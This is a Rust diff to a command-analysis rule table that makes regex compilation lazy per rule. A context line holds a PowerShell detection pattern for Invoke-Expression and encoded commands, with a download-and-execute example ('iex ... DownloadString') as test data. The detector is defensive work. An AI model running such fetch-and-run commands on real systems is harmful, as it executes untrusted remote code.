@@ -420,14 +420,14 @@ pub(crate) const INTERP_RULES: &[InterpRule] = &[
     InterpRule { id: "ps.iex", langs: &[PowerShell], pattern: r"(?i)Invoke-Expression|\biex\b|-EncodedCommand|FromBase64String", action: Action::Opaque("evaluates code built at run time"), matches: &["iex (New-Object Net.WebClient).DownloadString('http://x')"], not_matches: &["Get-ChildItem"]},
 ];
 
-fn compiled() -> &'static Vec<Option<Regex>> {
-    static RE: OnceLock<Vec<Option<Regex>>> = OnceLock::new();
-    RE.get_or_init(|| {
-        INTERP_RULES
-            .iter()
-            .map(|r| Regex::new(r.pattern).ok())
-            .collect()
-    })
+/// Rule `i`'s pattern, compiled on first use: a hook process analyses one command, and
+/// compiling every language's patterns for one Python one-liner costs milliseconds.
+fn compiled(i: usize) -> Option<&'static Regex> {
+    static RE: OnceLock<Vec<OnceLock<Option<Regex>>>> = OnceLock::new();
+    let cells = RE.get_or_init(|| INTERP_RULES.iter().map(|_| OnceLock::new()).collect());
+    cells[i]
+        .get_or_init(|| Regex::new(INTERP_RULES[i].pattern).ok())
+        .as_ref()
 }
 
 fn unescape(s: &str) -> String {
@@ -471,11 +471,11 @@ fn quote_path(arg: &str) -> String {
 pub(crate) fn effects(lang: Interp, code: &str) -> Vec<Effect> {
     let _ = S;
     let mut out = Vec::new();
-    for (rule, re) in INTERP_RULES.iter().zip(compiled()) {
-        let Some(re) = re else { continue };
+    for (i, rule) in INTERP_RULES.iter().enumerate() {
         if !rule.langs.contains(&lang) {
             continue;
         }
+        let Some(re) = compiled(i) else { continue };
         for caps in re.captures_iter(code).take(16) {
             let arg = caps
                 .get(1)
@@ -700,8 +700,8 @@ mod tests {
 
     #[test]
     fn interp_rules_walk_their_examples() {
-        for (rule, re) in INTERP_RULES.iter().zip(compiled()) {
-            assert!(re.is_some(), "rule {} does not compile", rule.id);
+        for (i, rule) in INTERP_RULES.iter().enumerate() {
+            assert!(compiled(i).is_some(), "rule {} does not compile", rule.id);
             for m in rule.matches {
                 let hit = rule.langs.iter().any(|l| {
                     effects(*l, m).iter().any(|e| match e {
